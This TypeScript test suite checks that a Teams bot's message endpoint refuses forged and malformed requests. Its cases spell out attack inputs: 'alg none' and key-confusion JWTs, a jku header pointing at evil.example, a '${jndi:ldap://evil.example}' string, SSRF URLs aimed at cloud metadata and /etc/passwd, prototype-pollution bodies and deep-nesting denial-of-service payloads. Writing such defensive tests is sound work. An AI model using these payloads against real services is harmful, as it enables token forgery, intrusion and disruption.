import { createPublicKey } from "node:crypto";
import { request as httpRequest } from "node:http";
import { setTimeout as pause } from "node:timers/promises";
import {
  appId,
  channelIssuer,
  claimsFor,
  createSigningKey,
  encode,
  signHs256,
  signRs256,
} from "../fakes/identity.ts";
import { expectAnswer, type Fields, startTeamsMode, type TeamsMode } from "./start-teams-mode.ts";

let stage: TeamsMode;
const stranger = createSigningKey("stranger", ["msteams"]);
const webchat = createSigningKey("webchat-1", ["webchat", "directline"]);
const bare = createSigningKey("bare-1");

beforeAll(async () => {
  stage = await startTeamsMode({
    prepare: ({ keys }) => keys.push(webchat, bare),
  });
}, 60_000);

afterAll(() => stage.stop());

/** A request as it goes over the wire; headers may stand there twice. */
type Twisted = {
  readonly method?: string;
  readonly headers?: readonly string[];
  /** In several parts: chunked, without a length. */
  readonly body?: string | Buffer | readonly string[];
};
type Answer = { readonly status: number; readonly text: string };

const json = ["content-type", "application/json; charset=utf-8"];

function send({ method = "POST", headers = [], body = "" }: Twisted): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const isChunked = Array.isArray(body);
    const length = isChunked ? [] : ["content-length", String(Buffer.byteLength(body as string))];
    const { host } = new URL(stage.url);
    const request = httpRequest(
      `${stage.url}/api/messages`,
      { method, agent: false, headers: ["host", host, ...headers, ...length] },
      (response) => {
        let text = "";
        response.setEncoding("utf8").on("data", (more: string) => {
          text += more;
        });
        response.on("end", () => resolve({ status: response.statusCode ?? 0, text }));
      },
    );
    request.on("error", reject);
    for (const part of isChunked ? body : [body as string]) request.write(part);
    request.end();
  });
}

/** An honest question under these authorization headers. */
const under = (...authorization: readonly string[]): Twisted => ({
  headers: [...json, ...authorization.flatMap((one) => ["authorization", one])],
  body: JSON.stringify(stage.question()),
});
const bearing = (token: string) => under(`Bearer ${token}`);

const kid = () => ({ alg: "RS256", typ: "JWT", kid: stage.identity.key.kid });
const claims = (other: Fields = {}) => ({ ...claimsFor(stage.connector.url), ...other });
/** A token whose header or claims are wrong, with the channel's own signature over them. */
const signed = (header: Fields, other: Fields = {}, key = stage.identity.key) =>
  bearing(signRs256({ ...kid(), ...header }, claims(other), key));
const claiming = (other: Fields, key = stage.identity.key) => signed({}, other, key);
const inSeconds = (seconds: number) => Math.floor(Date.now() / 1000) + seconds;
const pem = () =>
  createPublicKey(stage.identity.key.publicKey.export({ format: "pem", type: "spki" })).export({
    format: "pem",
    type: "spki",
  }) as string;

/** The channel's good token over a body that is not as it should be. */
const saying = (body: Twisted["body"], type = json): Twisted => ({
  headers: [...type, "authorization", stage.identity.bearer(stage.connector.url)],
  body: body ?? "",
});
const asking = (fields: Fields) => saying(JSON.stringify(stage.question(fields)));
/** Names another service URL, and has the channel's token for it. */
const from = (serviceUrl: string): Twisted => ({
  headers: [...json, "authorization", stage.identity.bearer(serviceUrl)],
  body: JSON.stringify(stage.question({ serviceUrl })),
});
const inConversation = (fields: Fields) =>
  asking({ conversation: { ...(stage.question()["conversation"] as Fields), ...fields } });
/** The honest question with something put in as text, where JSON.stringify would not write it. */
const withText = (text: string) =>
  saying(JSON.stringify(stage.question()).replace(/\}$/u, `,${text}}`));

const microsoft = "d6d49420-f39b-4df7-a1dc-d59a935871db";
const otherTenant = "99999999-9999-4999-8999-999999999999";
const deep = (levels: number) => `${"[".repeat(levels)}${"]".repeat(levels)}`;
const big = "x".repeat(300 * 1024);

type Case = readonly [name: string, status: number, twisted: () => Twisted];

const noToken: readonly Case[] = [
  ["no header", 401, () => under()],
  ["an empty header", 401, () => under("")],
  ["Basic", 401, () => under("Basic dXNlcjp3b3Jk")],
  ["garbage", 401, () => under("\u00e5\u00e4\u00f6 %00 ${jndi:ldap://evil.example}")],
  ["the scheme alone", 401, () => under("Bearer")],
  ["a token without dots", 401, () => bearing("abcdef")],
  ["dots without a token", 401, () => bearing("..")],
  ["a token under another scheme", 401, () => under(`Token ${honestToken()}`)],
  ["something behind the token", 401, () => bearing(`${honestToken()} x`)],
  ["two headers, the first forged", 401, () => under("Bearer a.b.c", `Bearer ${honestToken()}`)],
  ["a huge token", 401, () => claiming({ padding: "x".repeat(9_000) }, stranger)],
  ["a huge header of dots", 401, () => bearing(".".repeat(14_000))],
];

const honestToken = () => stage.identity.bearer(stage.connector.url).slice("Bearer ".length);
const unsigned = (header: Fields) => `${encode({ ...kid(), ...header })}.${encode(claims())}.`;

const badSignature: readonly Case[] = [
  ["no signature", 401, () => bearing(honestToken().replace(/[^.]+$/u, ""))],
  ["two parts only", 401, () => bearing(honestToken().replace(/\.[^.]+$/u, ""))],
  ...["none", "None", "NONE", "nOnE"].map(
    (alg): Case => [`alg ${alg}, unsigned`, 401, () => bearing(unsigned({ alg }))],
  ),
  ["alg none, with a signature", 401, () => signed({ alg: "none" })],
  ["alg none, without a key", 401, () => bearing(unsigned({ alg: "none", kid: undefined }))],
  ["RS256, unsigned", 401, () => bearing(`${unsigned({})}AA`)],
  [
    "HS256 with the public key",
    401,
    () => bearing(signHs256({ ...kid(), alg: "HS256" }, claims(), pem())),
  ],
  [
    "RS256 that is HS256 with the public key",
    401,
    () => bearing(signHs256(kid(), claims(), pem())),
  ],
  ["alg RS512", 401, () => signed({ alg: "RS512" })],
  ["alg ES256", 401, () => signed({ alg: "ES256" })],
  [
    "a forged signature",
    401,
    () => bearing(honestToken().replace(/[^.]+$/u, (text) => [...text].reverse().join(""))),
  ],
  [
    "the signature of other claims",
    401,
    () => {
      const [head, , signature] = honestToken().split(".");
      return bearing(`${head}.${encode(claims({ exp: inSeconds(99_999) }))}.${signature}`);
    },
  ],
  ["another key under the same name", 401, () => bearing(signRs256(kid(), claims(), stranger))],
  [
    "an unknown key",
    401,
    () => bearing(signRs256({ ...kid(), kid: "nobody" }, claims(), stranger)),
  ],
  [
    "a key that is endorsed for other channels",
    401,
    () => bearing(signRs256({ ...kid(), kid: webchat.kid }, claims(), webchat)),
  ],
  [
    "a key that is endorsed for none",
    401,
    () => bearing(signRs256({ ...kid(), kid: bare.kid }, claims(), bare)),
  ],
  ["no key's name", 401, () => signed({ kid: undefined })],
  ["a key's name that is a path", 401, () => signed({ kid: "../../../../dev/null" })],
  ["a key's name that is __proto__", 401, () => signed({ kid: "__proto__" })],
  [
    "a key of its own in the header",
    401,
    () => {
      const jwk = stranger.publicKey.export({ format: "jwk" });
      return bearing(signRs256({ ...kid(), kid: stranger.kid, jwk }, claims(), stranger));
    },
  ],
  [
    "the address of a key in the header",
    401,
    () => bearing(signRs256({ ...kid(), jku: "https://evil.example/keys" }, claims(), stranger)),
  ],
  ["an extension it must know", 401, () => signed({ crit: ["b64"], b64: true })],
];

const badClaims: readonly Case[] = [
  ["another audience", 401, () => claiming({ aud: "00000000-0000-4000-8000-000000000000" })],
  ["a list of audiences", 401, () => claiming({ aud: [appId, "other"] })],
  ["no audience", 401, () => claiming({ aud: undefined })],
  ...[
    `https://sts.windows.net/${microsoft}/`,
    `https://login.microsoftonline.com/${microsoft}/v2.0`,
    `https://sts.windows.net/${otherTenant}/`,
    `https://login.microsoftonline.com/${otherTenant}/v2.0`,
    "https://api.botframework.us",
    `${channelIssuer}/`,
  ].map((iss): Case => [`the issuer ${iss}`, 401, () => claiming({ iss })]),
  ["no issuer", 401, () => claiming({ iss: undefined })],
  ["a list of issuers", 401, () => claiming({ iss: [channelIssuer] })],
  [
    "an emulator's token",
    401,
    () => claiming({ iss: `https://sts.windows.net/${microsoft}/`, ver: "1.0", appid: appId }),
  ],
  [
    "a skill's token",
    401,
    () =>
      claiming({
        iss: `https://login.microsoftonline.com/${microsoft}/v2.0`,
        ver: "2.0",
        azp: "55555555-5555-4555-8555-555555555555",
      }),
  ],
  ["expired", 401, () => claiming({ exp: inSeconds(-400) })],
  ["not valid yet", 401, () => claiming({ nbf: inSeconds(3_600) })],
  ["no end", 401, () => claiming({ exp: undefined })],
  ["an end that is text", 401, () => claiming({ exp: String(inSeconds(3_600)) })],
  ["a beginning that is text", 401, () => claiming({ nbf: "0" })],
  ["no service URL", 401, () => claiming({ serviceurl: undefined })],
  [
    "another service URL",
    403,
    () => claiming({ serviceurl: "https://smba.trafficmanager.net/emea/" }),
  ],
  [
    "the service URL in another case",
    403,
    () => claiming({ serviceurl: stage.connector.url.replace("http", "HTTP") }),
  ],
  [
    "the service URL with a slash more",
    403,
    () => claiming({ serviceurl: `${stage.connector.url}/` }),
  ],
  [
    "an honest token with another's activity",
    403,
    () => asking({ serviceUrl: "https://smba.trafficmanager.net/emea/" }),
  ],
];

const badAddress: readonly Case[] = [
  ["no service URL in the activity", 400, () => asking({ serviceUrl: undefined })],
  ["a service URL that is null", 400, () => asking({ serviceUrl: null })],
  ["a list of service URLs", 400, () => asking({ serviceUrl: [stage.connector.url] })],
  ["a service URL that is none", 400, () => from("not a url")],
  ...[
    "http://smba.trafficmanager.net/emea/",
    "https://user@smba.trafficmanager.net/",
    "https://smba.trafficmanager.net@evil.example/",
    "https://smba.trafficmanager.net:8443/",
    "https://smb\u0430.trafficmanager.net/",
    "https://smba\u3002trafficmanager.net/",
    "https://smba.trafficmanager.net./",
    "https://evil.example\\@smba.trafficmanager.net/",
    "https://smba.trafficmanager.net.evil.example/",
    "https://13.107.42.14/",
    "http://169.254.169.254/metadata/identity",
    "http://127.0.0.1.evil.example/",
    "http://user@127.0.0.1/",
    "file:///etc/passwd",
  ].map((url): Case => [`the service URL ${url}`, 403, () => from(url)]),
];

const badOrigin: readonly Case[] = [
  ...["webchat", "emulator", "directline", "AseChannel", " msteams", "msteams ", "MSTEAMS", ""].map(
    (channelId): Case => [`the channel "${channelId}"`, 403, () => asking({ channelId })],
  ),
  ["no channel", 403, () => asking({ channelId: undefined })],
  ["a list of channels", 403, () => asking({ channelId: ["msteams"] })],
  [
    "another tenant in channelData",
    403,
    () => asking({ channelData: { tenant: { id: otherTenant } } }),
  ],
  ["another tenant in the conversation", 403, () => inConversation({ tenantId: otherTenant })],
  [
    "another tenant in both",
    403,
    () =>
      asking({
        channelData: { tenant: { id: otherTenant } },
        conversation: { id: "a:1", conversationType: "personal", tenantId: otherTenant },
      }),
  ],
  ["no tenant", 403, () => asking({ channelData: {}, conversation: { id: "a:1" } })],
  ["a tenant that is no text", 403, () => asking({ channelData: { tenant: { id: { a: 1 } } } })],
  [
    "the tenant as a prototype",
    403,
    () =>
      saying(
        JSON.stringify(stage.question({ conversation: { id: "a:1" } })).replace(
          /"channelData":\{"tenant"/u,
          '"channelData":{"__proto__":{"tenant":{}},"constructor"',
        ),
      ),
  ],
];

const badBody: readonly Case[] = [
  ["no body", 400, () => saying("")],
  ["broken JSON", 400, () => saying('{"type":"message"')],
  ["a list", 400, () => saying(JSON.stringify([stage.question()]))],
  ["text", 400, () => saying('"message"')],
  ["null", 400, () => saying("null")],
  ["bytes that are no text", 400, () => saying(Buffer.from([0xff, 0xfe, 0x00, 0x7b]))],
  ["an empty activity", 400, () => saying("{}")],
  [
    "the service URL twice, the last foreign",
    403,
    () => withText('"serviceUrl":"https://evil.example/"'),
  ],
  ["the channel twice, the last foreign", 403, () => withText('"channelId":"webchat"')],
  [
    "the conversation twice, the last foreign",
    403,
    () => withText(`"conversation":{"id":"a:1","tenantId":"${otherTenant}"}`),
  ],
  ["a type that is no text", 400, () => asking({ type: { $gt: "" } })],
  ["no id", 400, () => asking({ id: undefined })],
  ["no sender", 400, () => asking({ from: undefined })],
  ["no conversation", 400, () => asking({ conversation: undefined })],
  ["no recipient", 400, () => asking({ recipient: undefined })],
  ["a conversation id of 100 KB", 400, () => inConversation({ id: "a".repeat(100_000) })],
  ["a conversation id of 1,000 letters", 400, () => inConversation({ id: "a".repeat(1_000) })],
  ["a conversation id that is a list", 400, () => inConversation({ id: ["a:1"] })],
  ["an activity id of 10,000 letters", 400, () => asking({ id: "a".repeat(10_000) })],
  ["10,000 levels of nesting", 400, () => withText(`"value":${deep(10_000)}`)],
  ["100,000 levels of nesting", 400, () => saying(deep(100_000))],
  ["fields in a prototype", 400, () => saying(`{"__proto__":${JSON.stringify(stage.question())}}`)],
  [
    "fields in a constructor",
    400,
    () => saying(`{"constructor":{"prototype":${JSON.stringify(stage.question())}}}`),
  ],
  [
    "a card action without value",
    400,
    () => asking({ type: "invoke", name: "adaptiveCard/action" }),
  ],
  [
    "a card action whose value is a list",
    400,
    () => asking({ type: "invoke", name: "adaptiveCard/action", value: [] }),
  ],
  [
    "a card action without an action",
    400,
    () => asking({ type: "invoke", name: "adaptiveCard/action", value: {} }),
  ],
  [
    "a card action nested deeply",
    400,
    () =>
      saying(
        JSON.stringify(
          stage.question({
            type: "invoke",
            name: "adaptiveCard/action",
            value: { action: { type: "Action.Execute", verb: "ask.more", data: { key: "DEEP" } } },
          }),
        ).replace('"DEEP"', `"k","x":${deep(10_000)}`),
      ),
  ],
  ["an invoke without a name", 400, () => asking({ type: "invoke", value: {} })],
  ["an invoke that is unknown", 400, () => asking({ type: "invoke", name: "evil", value: {} })],
  ["a body beyond the limit", 413, () => asking({ text: big })],
  ["a body beyond the limit, in chunks", 413, () => saying(['{"text":"', big, '"}'])],
  ["a body beyond the limit, without a token", 413, () => ({ headers: json, body: big })],
  [
    "a body that is compressed",
    400,
    () => saying(Buffer.from("1f8b08", "hex"), [...json, "content-encoding", "gzip"]),
  ],
  ...["text/plain", "application/x-www-form-urlencoded", "application/jsonp"].map(
    (type): Case => [
      `the content type ${type}`,
      400,
      () => saying(JSON.stringify(stage.question()), ["content-type", type]),
    ],
  ),
  ["no content type", 400, () => saying(JSON.stringify(stage.question()), [])],
];

const badMethod: readonly Case[] = ["GET", "PUT", "DELETE", "PATCH", "OPTIONS"].map((method) => [
  `${method}`,
  405,
  () => ({ ...asking({}), method }),
]);

const cases: readonly Case[] = [
  ...noToken,
  ...badSignature,
  ...badClaims,
  ...badAddress,
  ...badOrigin,
  ...badBody,
  ...badMethod,
];

const refusal = {
  error: {
    code: expect.stringMatching(/^[a-z-]+$/u),
    message: expect.stringMatching(/^[^\n]+\.$/u),
  },
};

function expectNothingLeaked(text: string): void {
  expect(text).not.toMatch(/\bat \/|node_modules|\.ts\b|\.js\b|Error|stack/u);
}

const counts = async () => ({
  turns: await stage.turns(),
  calls: stage.connector.calls.length,
  claims: stage.claims(),
});

describe("a forged or twisted request", () => {
  it("there are enough of them, each with a name of its own", () => {
    expect(cases.length).toBeGreaterThanOrEqual(40);
    expect(new Set(cases.map(([name]) => name)).size).toBe(cases.length);
  });

  it.each(cases)(
    "when it comes with %s, then it is refused with %d, and others are answered meanwhile",
    async (_name, status, twisted) => {
      const before = await counts();

      const [first, refused, second] = await Promise.all([
        stage.ask(),
        send(twisted()),
        stage.ask(),
      ]);

      expect(refused.status).toBe(status);
      expect(JSON.parse(refused.text)).toEqual(refusal);
      expectNothingLeaked(refused.text);
      expectAnswer(first);
      expectAnswer(second);
      expect(await counts()).toEqual({
        turns: before.turns + 2,
        calls: before.calls + 2,
        claims: before.claims + 2,
      });
    },
  );

  it("when its header has a megabyte, then it ends at the door", async () => {
    const before = await counts();

    // Node itself refuses it, maybe before all of it was sent.
    const { status, text } = await send(bearing("x".repeat(1_000_000))).catch(() => ({
      status: 400,
      text: "",
    }));

    expect([400, 431]).toContain(status);
    if (text !== "") expect(JSON.parse(text)).toEqual(refusal);
    expectAnswer(await stage.ask());
    expect(await counts()).toEqual({
      turns: before.turns + 1,
      calls: before.calls + 1,
      claims: before.claims + 1,
    });
  });

  it("when a hundred come at once, then nothing is logged", async () => {
    const before = stage.said();
    const forged = cases.filter(([, status]) => status === 401).slice(0, 50);

    const answers = await Promise.all(
      [...forged, ...forged].map(([, , twisted]) => send(twisted())),
    );

    expect(answers.map(({ status }) => status)).toEqual(Array(forged.length * 2).fill(401));
    await pause(200);
    expect(stage.said()).toBe(before);
    expect(stage.said()).not.toMatch(/Available keys|PUBLIC KEY|"level":50|\n\s+at /u);
  });

  it("when five hundred name unknown keys, then the channel is hardly asked, and others are answered meanwhile", async () => {
    const before = stage.identity.metadataRequests();
    const flood = Array.from({ length: 500 }, async (_, at) => {
      await pause(at * 2);
      return send(bearing(signRs256({ ...kid(), kid: `unknown-${at}` }, claims(), stranger)));
    });
    const honest = Array.from({ length: 20 }, async (_, at) => {
      await pause(at * 50);
      return stage.ask();
    });

    const answers = await Promise.all(flood);
    for (const exchange of await Promise.all(honest)) expectAnswer(exchange);

    expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([401]));
    expect(stage.identity.metadataRequests() - before).toBeLessThanOrEqual(2);
    expect(stage.identity.metadataRequests()).toBeLessThanOrEqual(3);
  });
});
